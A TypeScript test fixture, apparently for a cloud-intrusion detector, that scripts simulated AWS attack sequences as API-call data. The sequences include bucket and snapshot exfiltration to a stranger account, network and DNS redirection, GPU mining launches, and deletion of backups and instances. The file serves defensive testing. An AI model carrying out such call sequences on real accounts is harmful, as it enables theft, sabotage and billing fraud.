import { AGENTS, DATA, HOME, role, STRANGER, user, wrapped, type Intrusion, type Step } from '../step';

const ok = { requestId: '5b7f0a0e-0000-4000-8000-000000000000', _return: true };
const denied = { error: 'Client.UnauthorizedOperation', message: 'You are not authorized to perform this operation.' };
const TERRAFORM = 'APN/1.0 HashiCorp/1.0 Terraform/1.7.4 (+https://www.terraform.io) terraform-provider-aws/5.39.1 (+https://registry.terraform.io/providers/hashicorp/aws) aws-sdk-go-v2/1.25.2 os/linux lang/go#1.21.8';
const GO = 'aws-sdk-go-v2/1.30.3 os/linux lang/go#1.22.5 md/GOOS#linux md/GOARCH#amd64 api/ec2#1.170.0';
const console_ = { sessionCredentialFromConsole: 'true' };
const machines = (count: number) => ({ items: Array.from({ length: count }, (_, n) => ({ instanceId: `i-0aaaaaaaaaaaaaa${10 + n}` })) });

/**
 * A fourth set, about machines, disks and networks (its other half is in `services.ts`), written down when the rules
 * had been mended after the third: calls and parameters of the last years, several things in one call, attempts that
 * were refused, and legal layouts that are seldom seen.
 */
export const compute: readonly Intrusion[] = [
  {
    name: 'the credentials of a web application firewall',
    as: role('waf-web-role', 'i-0c0ffee0c0ffee0c0', '192.0.2.140', AGENTS.boto),
    steps: [
      { call: 's3:ListBuckets', harm: 'the credentials of a machine used from a server of the intruder’s' },
      ...['DescribeSnapshots', 'DescribeVolumes', 'DescribeImages', 'DescribeVpcs', 'DescribeKeyPairs', 'DescribeAddresses', 'DescribeNatGateways', 'DescribeVpnConnections', 'DescribeNetworkAcls', 'DescribeLaunchTemplates', 'DescribeFlowLogs', 'DescribeVpcEndpoints'].map((name, n): Step => ({ call: `ec2:${name}`, ...denied, after: 1, ...(n === 11 ? { harm: 'a dozen refused questions about what there is' } : {}) })),
      { call: 'ec2:CreateSnapshot', request: { volumeId: 'vol-0123456789abcdef0' }, error: 'Client.DryRunOperation', message: 'Request would have succeeded, but DryRun flag is set.', harm: 'the permission to copy a disk tried with DryRun' },
      ...Array.from({ length: 120 }, (_, n): Step => ({ call: 's3:GetObject', request: { bucketName: 'customer-applications', key: `2026/04/${n}.csv`, Host: 'customer-applications.s3.amazonaws.com' }, more: DATA, after: 1, ...(n === 119 ? { harm: 'a bucket copied away, object by object' } : {}) })),
      wrapped('ModifyInstanceMetadataDefaults', { HttpTokens: 'optional', HttpTokensEnforced: 'disabled', HttpPutResponseHopLimit: 2 }, { harm: 'the old metadata service allowed for all machines to come' }),
      wrapped('AssociateIamInstanceProfile', { InstanceId: 'i-0123456789abcdef0', IamInstanceProfile: { Arn: `arn:aws:iam::${HOME}:instance-profile/OrgAdmin` } }, { harm: 'a strong role given to a machine that had none' }),
      { call: 's3:PutBucketPolicy', request: { bucketName: 'customer-applications', bucketPolicy: { Version: '2012-10-17', Statement: [{ Sid: 'a', Effect: 'Allow', Principal: { AWS: [`arn:aws:iam::${HOME}:root`, STRANGER] }, Action: ['s3:GetObject', 's3:ListBucket'], Resource: ['arn:aws:s3:::customer-applications', 'arn:aws:s3:::customer-applications/*'] }] }, Host: 's3.amazonaws.com', policy: '' }, harm: 'a bucket opened to a strange account beside one’s own' },
    ],
  },
  {
    name: 'disks and images that leave by every door',
    as: role('AWSReservedSSO_PowerUserAccess_5e6f7a8b9c0d1e2f', 'devops@example.com', '203.0.113.31'),
    steps: [
      wrapped('GetSnapshotBlockPublicAccessState', '', {}),
      wrapped('DisableSnapshotBlockPublicAccess', '', { harm: 'the block of public snapshots taken away' }),
      { call: 'ec2:ModifySnapshotAttribute', request: { snapshotId: 'snap-0d1d2d3d4d5d6d7d8', createVolumePermission: { add: { items: [{ group: 'all' }] } }, attributeType: 'CREATE_VOLUME_PERMISSION' }, response: ok, harm: 'a snapshot made public' },
      wrapped('DisableImageBlockPublicAccess', '', { ...denied, harm: 'taking the block of public images away tried' }),
      wrapped('DisableAllowedImagesSettings', '', { harm: 'images of anybody allowed again' }),
      wrapped('CreateSnapshots', { InstanceSpecification: { InstanceId: 'i-0dc0dc0dc0dc0dc0d', ExcludeBootVolume: false }, Description: 'x', CopyTagsFromSource: 'volume' }, {}),
      { call: 'ec2:ModifySnapshotAttribute', request: { snapshotId: 'snap-0e1e2e3e4e5e6e7e8', createVolumePermission: { add: { items: [{ userId: '222233334444' }, { userId: STRANGER }] } }, attributeType: 'CREATE_VOLUME_PERMISSION' }, response: ok, harm: 'a snapshot shared with two strange accounts' },
      { call: 'ec2:ModifyImageAttribute', request: { imageId: 'ami-0abcdef1234567890', attributeType: 'launchPermission', launchPermission: { add: { items: [{ organizationArn: `arn:aws:organizations::${STRANGER}:organization/o-strange123` }] } } }, response: ok, harm: 'an image shared with a strange organisation' },
      { call: 'ec2:CreateInstanceExportTask', request: { instanceId: 'i-0dc0dc0dc0dc0dc0d', targetEnvironment: 'vmware', exportToS3: { s3Bucket: 'stranger-drop', diskImageFormat: 'VMDK', containerFormat: 'ova' } }, harm: 'a machine written to a bucket as a disk' },
      { call: 'ec2:CopyImage', request: { sourceImageId: 'ami-0abcdef1234567890', sourceRegion: 'us-east-1', name: 'x', encrypted: true, kmsKeyId: `arn:aws:kms:eu-west-3:${STRANGER}:key/0b1c2d3e-4f50-4617-8a9b-0c1d2e3f4a5b` }, region: 'eu-west-3', harm: 'an image copied under a key of a strange account' },
      wrapped('CreateRestoreImageTask', { Bucket: 'stranger-drop', ObjectKey: 'ami-0ff0ff0ff0ff0ff0f.bin', Name: 'amzn2-ami-hvm-2.0' }, { harm: 'an image of the intruder’s brought in from a bucket' }),
      wrapped('CreateReplaceRootVolumeTask', { InstanceId: 'i-0123456789abcdef0', ImageId: 'ami-0ff0ff0ff0ff0ff0f', DeleteReplacedRootVolume: true }, { harm: 'the system disk of a running machine exchanged' }),
    ],
  },
  {
    name: 'a network opened by its newer doors',
    as: user('netops-automation', TERRAFORM, '203.0.113.32'),
    steps: [
      { call: 'ec2:DescribeSecurityGroups', request: { securityGroupSet: {}, securityGroupIdSet: {}, filterSet: {} } },
      { call: 'ec2:AuthorizeSecurityGroupIngress', request: { groupId: 'sg-0aa11bb22cc33dd44', ipPermissions: {}, ipProtocol: 'tcp', fromPort: 3389, toPort: 3389, cidrIp: '0.0.0.0/0' }, response: ok, harm: 'remote desktop opened to everyone, in the flat form of the call' },
      { call: 'ec2:AuthorizeSecurityGroupIngress', request: { groupId: 'sg-0ee11bb22cc33dd44', ipPermissions: { items: [{ ipProtocol: 'tcp', fromPort: 443, toPort: 443, groups: {}, ipRanges: { items: [{ cidrIp: '10.0.0.0/8' }] }, ipv6Ranges: {}, prefixListIds: {} }, { ipProtocol: '6', fromPort: 3306, toPort: 3306, groups: {}, ipRanges: {}, ipv6Ranges: { items: [{ cidrIpv6: '::/0' }] }, prefixListIds: {} }] } }, response: ok, harm: 'a database opened to everyone over IPv6, the protocol by its number' },
      { call: 'ec2:AuthorizeSecurityGroupIngress', request: { groupId: 'sg-0ee11bb22cc33dd44', ipPermissions: { items: [{ ipProtocol: '-1', groups: { items: [{ userId: STRANGER, groupId: 'sg-0ff11ff22ff33ff44' }] }, ipRanges: {}, ipv6Ranges: {}, prefixListIds: {} }] } }, response: ok, harm: 'everything opened to a security group of a strange account' },
      wrapped('ModifyManagedPrefixList', { PrefixListId: 'pl-0123456789abcdef0', CurrentVersion: 7, AddEntry: { Cidr: '0.0.0.0/0', Description: 'office', tag: 1 } }, { harm: 'everyone put on the list of addresses that security groups let in' }),
      wrapped('ModifyVpcBlockPublicAccessOptions', { InternetGatewayBlockMode: 'off' }, { harm: 'the block of traffic with the Internet switched off' }),
      wrapped('CreateVpcBlockPublicAccessExclusion', { VpcId: 'vpc-0123456789abcdef0', InternetGatewayExclusionMode: 'allow-bidirectional' }, { harm: 'a network taken out of that block' }),
      wrapped('ModifyVpcEndpoint', { VpcEndpointId: 'vpce-0aa11bb22cc33dd44', ResetPolicy: true }, { harm: 'the policy of an endpoint put back to one that allows everything' }),
      { call: 'ec2:AcceptVpcPeeringConnection', request: { vpcPeeringConnectionId: 'pcx-0ff11ff22ff33ff44' }, response: { requestId: ok.requestId, vpcPeeringConnection: { vpcPeeringConnectionId: 'pcx-0ff11ff22ff33ff44', requesterVpcInfo: { ownerId: STRANGER, vpcId: 'vpc-0ff11ff22ff33ff44', region: 'us-east-1' }, accepterVpcInfo: { ownerId: HOME, vpcId: 'vpc-0123456789abcdef0', region: 'us-east-1' }, status: { code: 'provisioning' } } }, harm: 'a network joined to one of a strange account that asked for it' },
      wrapped('CreateNetworkInterfacePermission', { NetworkInterfaceId: 'eni-0aaaaaaaaaaaaaaaa', AwsAccountId: Number(STRANGER), Permission: 'INSTANCE-ATTACH' }, { harm: 'a strange account allowed to attach an interface of the network' }),
      { call: 'ec2:ReplaceNetworkAclEntry', request: { networkAclId: 'acl-0123456789abcdef0', ruleNumber: 100, egress: false, ruleAction: 'allow', icmpTypeCode: {}, portRange: {}, aclProtocol: '-1', ipv6CidrBlock: '::/0' }, response: ok, harm: 'an ACL that lets everything in over IPv6' },
    ],
  },
  {
    name: 'the way of packets turned',
    as: role('NetworkAdmin', 'vendor-support', '2001:db8:be:ef::7', GO),
    steps: [
      { call: 'ec2:DescribeRouteTables', request: { routeTableIdSet: {}, filterSet: {} } },
      { call: 'ec2:ModifyNetworkInterfaceAttribute', request: { networkInterfaceId: 'eni-0bad0bad0bad0bad0', sourceDestCheck: { value: false } }, response: ok },
      { call: 'ec2:ReplaceRoute', request: { routeTableId: 'rtb-0123456789abcdef0', destinationCidrBlock: '0.0.0.0/0', networkInterfaceId: 'eni-0bad0bad0bad0bad0' }, response: ok, harm: 'all that leaves a subnet led over a machine of the intruder’s' },
      { call: 'ec2:CreateDhcpOptions', request: { dhcpConfigurationSet: { items: [{ key: 'domain-name-servers', valueSet: { items: [{ value: '198.51.100.53' }] } }] } }, response: { dhcpOptions: { dhcpOptionsId: 'dopt-0aa11bb22cc33dd44' } }, harm: 'machines to be given a name server of the intruder’s' },
      { call: 'ec2:AssociateDhcpOptions', request: { dhcpOptionsId: 'dopt-0aa11bb22cc33dd44', vpcId: 'vpc-0123456789abcdef0' }, response: ok },
      { call: 'ec2:CreateCustomerGateway', request: { type: 'ipsec.1', ipAddress: '198.51.100.77', bgpAsn: 65000 }, response: { customerGateway: { customerGatewayId: 'cgw-0aa11bb22cc33dd44' } } },
      { call: 'ec2:CreateVpnConnection', request: { type: 'ipsec.1', customerGatewayId: 'cgw-0aa11bb22cc33dd44', transitGatewayId: 'tgw-0aa11bb22cc33dd44', options: { staticRoutesOnly: true } }, harm: 'a tunnel from the network to a server of the intruder’s' },
      wrapped('ModifyTransitGateway', { TransitGatewayId: 'tgw-0aa11bb22cc33dd44', Options: { AutoAcceptSharedAttachments: 'enable' } }, { harm: 'a transit gateway that takes on whoever asks' }),
      wrapped('AcceptTransitGatewayVpcAttachment', { TransitGatewayAttachmentId: 'tgw-attach-0ff11ff22ff33ff44' }, { response: { AcceptTransitGatewayVpcAttachmentResponse: { xmlns: 'http://ec2.amazonaws.com/doc/2016-11-15/', requestId: ok.requestId, transitGatewayVpcAttachment: { transitGatewayId: 'tgw-0aa11bb22cc33dd44', transitGatewayAttachmentId: 'tgw-attach-0ff11ff22ff33ff44', vpcId: 'vpc-0ff11ff22ff33ff44', vpcOwnerId: Number(STRANGER), state: 'pending' } } }, harm: 'a network of a strange account taken on by a transit gateway' }),
      wrapped('EnableAddressTransfer', { AllocationId: 'eipalloc-0aa11bb22cc33dd44', TransferAccountId: Number(STRANGER) }, { harm: 'a public address of the company’s given to a strange account' }),
      { call: 'network-firewall:UpdateLoggingConfiguration', request: { firewallName: 'edge', loggingConfiguration: { logDestinationConfigs: [] } }, harm: 'the logs of a firewall switched off' },
      { call: 'network-firewall:DeleteFirewall', request: { firewallName: 'edge' }, error: 'InvalidOperationException', message: 'Unable to fulfill request because the following related VPC endpoint(s) still exist.', harm: 'deleting a firewall tried' },
      { call: 'wafv2:DisassociateWebACL', request: { resourceArn: `arn:aws:elasticloadbalancing:us-east-1:${HOME}:loadbalancer/app/shop/50dc6c495c0c9188` }, harm: 'the web application firewall taken off a load balancer' },
    ],
  },
  {
    name: 'machines entered over their own management',
    as: role('AWSReservedSSO_SupportEngineer_7a8b9c0d1e2f3a4b', 'temp.contractor@example.com', '203.0.113.33', AGENTS.browser),
    steps: [
      ...Array.from({ length: 15 }, (_, n): Step => ({ call: 'ec2:DescribeInstanceAttribute', request: { attribute: 'userData', instanceId: `i-0aaaaaaaaaaaaaa${10 + n}` }, after: 1, ...(n === 14 ? { harm: 'the start scripts of all machines read' } : {}) })),
      { call: 'ec2:GetPasswordData', request: { instanceId: 'i-0fedcba9876543210' }, ...denied, harm: 'a Windows password asked for, and refused' },
      { call: 'ec2:ModifyInstanceAttribute', request: { instanceId: 'i-0123456789abcdef0', attribute: 'userData', value: '<sensitiveDataRemoved>' }, error: 'Client.IncorrectInstanceState', message: 'The instance \'i-0123456789abcdef0\' must be in the stopped state.', harm: 'changing a start script tried, in the old form of the call' },
      wrapped('ModifyInstanceMetadataOptions', { InstanceId: 'i-0123456789abcdef0', HttpTokens: 'required', HttpPutResponseHopLimit: 64, InstanceMetadataTags: 'enabled' }, { more: console_, harm: 'the metadata of a machine let out over 64 hops' }),
      { call: 'ssm:SendCommand', request: { documentName: 'AWS-RunPowerShellScript', targets: [{ key: 'tag:Environment', values: ['prod', 'staging'] }], maxConcurrency: '100%', maxErrors: '100%', parameters: 'HIDDEN_DUE_TO_SECURITY_REASONS', interactive: false }, more: console_, harm: 'a script run on all machines of a kind' },
      { call: 'ssm:StartAutomationExecution', request: { documentName: 'AWSSupport-ResetAccess', parameters: { InstanceId: ['i-0fedcba9876543210'] } }, more: console_, harm: 'the password of a machine reset from outside' },
      { call: 'ssm:UpdateDocument', request: { name: 'SSM-SessionManagerRunShell', documentVersion: '$LATEST', content: JSON.stringify({ schemaVersion: '1.0', description: 'Document to hold regional settings for Session Manager', sessionType: 'Standard_Stream', inputs: { s3BucketName: '', cloudWatchLogGroupName: '', runAsEnabled: true, runAsDefaultUser: 'root' } }) }, harm: 'the recording of sessions switched off, and sessions made those of root' },
      { call: 'ssm:UpdateServiceSetting', request: { settingId: '/ssm/managed-instance/default-ec2-instance-management-role', settingValue: 'service-role/AdminForMachines' }, harm: 'a role of the intruder’s choice given to every machine without one' },
      { call: 'ssm:GetParametersByPath', request: { path: '/', recursive: true, withDecryption: true, maxResults: 10 }, harm: 'every parameter read in clear' },
      ...Array.from({ length: 8 }, (_, n): Step => ({ call: 'ec2-instance-connect:SendSSHPublicKey', request: { instanceId: `i-0aaaaaaaaaaaaaa${10 + n}`, instanceOSUser: 'ec2-user', sSHPublicKey: 'ssh-ed25519 AAAA' }, after: 2, ...(n === 7 ? { harm: 'the same key pushed to one machine after the other' } : {}) })),
    ],
  },
  {
    name: 'miners who buy what they cannot take',
    as: user('terraform-ci', GO, '203.0.113.34'),
    steps: [
      ...['eu-west-1', 'eu-central-1', 'eu-north-1', 'ap-south-1', 'ap-northeast-1', 'ap-southeast-2', 'ca-central-1', 'sa-east-1'].map((region, n): Step => ({ call: 'ec2:RunInstances', request: { instancesSet: { items: [{ imageId: 'ami-0abcdef1234567890', minCount: 1, maxCount: 1 }] }, instanceType: 't3.micro' }, ...denied, region, after: 3, ...(n === 7 ? { harm: 'starting machines tried in one region after the other' } : {}) })),
      { call: 'ec2:RunInstances', request: { instancesSet: { items: [{ imageId: 'ami-0abcdef1234567890', minCount: 1, maxCount: 20 }] }, instanceType: 'trn1.32xlarge', instanceMarketOptions: { marketType: 'spot' } }, response: { instancesSet: { items: [{ instanceId: 'i-0abababababababab', instanceType: 'trn1.32xlarge' }] } }, region: 'us-west-2', harm: 'machines for training of models, up to twenty' },
      { call: 'ec2:RunInstances', request: { instancesSet: { items: [{ imageId: 'ami-0abcdef1234567890', minCount: 50, maxCount: 50 }] }, instanceType: 't3a.medium', userData: '<sensitiveDataRemoved>' }, response: { instancesSet: { items: [{ instanceId: 'i-0acacacacacacacac', instanceType: 't3a.medium' }] } }, region: 'ap-southeast-3', harm: 'fifty small machines at once' },
      wrapped('CreateFleet', { Type: 'instant', TargetCapacitySpecification: { TotalTargetCapacity: 4000, DefaultTargetCapacityType: 'spot', TargetCapacityUnitType: 'vcpu' }, LaunchTemplateConfigs: { tag: 1, LaunchTemplateSpecification: { LaunchTemplateId: 'lt-0ff', Version: '$Latest' }, Overrides: { tag: 1, InstanceRequirements: { VCpuCount: { Min: 48 }, MemoryMiB: { Min: 0 } } } } }, { harm: 'a fleet of four thousand processors, its machines chosen by what they have' }),
      { call: 'ec2:ModifySpotFleetRequest', request: { spotFleetRequestId: 'sfr-0aa11bb2-2cc3-4dd4-8ee5-5ff667788990', targetCapacity: 800 }, response: ok, harm: 'a spot fleet grown to eight hundred' },
      wrapped('PurchaseCapacityBlock', { CapacityBlockOfferingId: 'cb-0123456789abcdef0', InstancePlatform: 'Linux/UNIX' }, { harm: 'a block of GPU machines paid for in advance' }),
      wrapped('CreateCapacityReservation', { InstanceType: 'p5.48xlarge', InstancePlatform: 'Linux/UNIX', AvailabilityZone: 'us-east-1a', InstanceCount: 8, EndDateType: 'unlimited' }, { harm: 'eight of the dearest machines reserved' }),
      { call: 'ec2:PurchaseReservedInstancesOffering', request: { reservedInstancesOfferingId: '649fd0c8-5d76-4881-a522-fe5224c10fcc', instanceCount: 50 }, error: 'Client.InsufficientReservedInstancesCapacity', harm: 'buying reserved machines tried' },
      wrapped('AllocateHosts', { InstanceFamily: 'g6e', Quantity: 6, AvailabilityZone: 'us-east-1b', AutoPlacement: 'on' }, { harm: 'whole hosts with GPUs taken' }),
      { call: 'autoscaling:UpdateAutoScalingGroup', request: { autoScalingGroupName: 'web', minSize: 300, maxSize: 600, desiredCapacity: 400 }, harm: 'a scaling group grown to hundreds' },
      { call: 'ec2:ModifyInstanceAttribute', request: { instanceId: 'i-0abababababababab', disableApiStop: { value: true } }, response: ok, harm: 'a machine kept from being stopped' },
      { call: 'ec2:ModifyInstanceAttribute', request: { instanceId: 'i-0abababababababab', attribute: 'disableApiTermination', value: 'true' }, response: ok, harm: 'a machine kept from being ended, in the old form of the call' },
      { call: 'lightsail:CreateInstances', request: { instanceNames: Array.from({ length: 10 }, (_, n) => `w${n}`), availabilityZone: 'us-east-1a', blueprintId: 'ubuntu_22_04', bundleId: '2xlarge_3_0', userData: 'HIDDEN_DUE_TO_SECURITY_REASONS' }, harm: 'ten servers in a service that nobody used' },
      { call: 'budgets:DeleteBudget', request: { accountId: HOME, budgetName: 'monthly' }, harm: 'the watch over what is spent deleted' },
    ],
  },
  {
    name: 'nothing left to restore from',
    as: role('OrganizationAccountAccessRole', 'recovery', '203.0.113.35'),
    steps: [
      { call: 'rbin:UpdateRule', request: { identifier: 'aa11bb22cc3', retentionPeriod: { retentionPeriodValue: 1, retentionPeriodUnit: 'DAYS' } }, harm: 'what is deleted kept for a day only' },
      { call: 'dlm:UpdateLifecyclePolicy', request: { policyId: 'policy-0aa11bb22cc33dd44', state: 'DISABLED' }, harm: 'the plan of snapshots switched off' },
      { call: 'backup:UpdateRegionSettings', request: { resourceTypeOptInPreference: { EBS: false, EC2: false, RDS: false, S3: false, DynamoDB: false } }, harm: 'backups of whole services switched off' },
      { call: 'backup:UpdateRecoveryPointLifecycle', request: { backupVaultName: 'main', recoveryPointArn: 'arn:aws:ec2:us-east-1::image/ami-0aaaaaaaaaaaaaa01', lifecycle: { deleteAfterDays: 1 } }, harm: 'a backup set to be deleted tomorrow' },
      wrapped('UnlockSnapshot', { SnapshotId: 'snap-0f1f2f3f4f5f6f7f8' }, { harm: 'the lock of a snapshot taken off' }),
      wrapped('DisableImageDeregistrationProtection', { ImageId: 'ami-0aaaaaaaaaaaaaa01' }, { harm: 'the protection of an image taken off' }),
      { call: 'ec2:DeregisterImage', request: { imageId: 'ami-0aaaaaaaaaaaaaa01', deleteAssociatedSnapshots: true }, response: ok, harm: 'an image deleted together with its snapshots' },
      { call: 'ec2:DescribeInstances', request: { maxResults: 1000, instancesSet: {}, filterSet: {} } },
      { call: 'ec2:StopInstances', request: { instancesSet: machines(20), force: true, skipOsShutdown: true }, harm: 'twenty machines stopped by force' },
      ...Array.from({ length: 8 }, (_, n): Step => ({ call: 'ec2:DetachVolume', request: { volumeId: `vol-0aaaaaaaaaaaaaa${10 + n}`, instanceId: `i-0aaaaaaaaaaaaaa${10 + n}`, force: true }, after: 2, ...(n === 7 ? { harm: 'the disks of machines torn off one after the other' } : {}) })),
      { call: 'ec2:TerminateInstances', request: { instancesSet: machines(12), force: true, skipOsShutdown: true }, harm: 'twelve machines ended in one call' },
    ],
  },
];
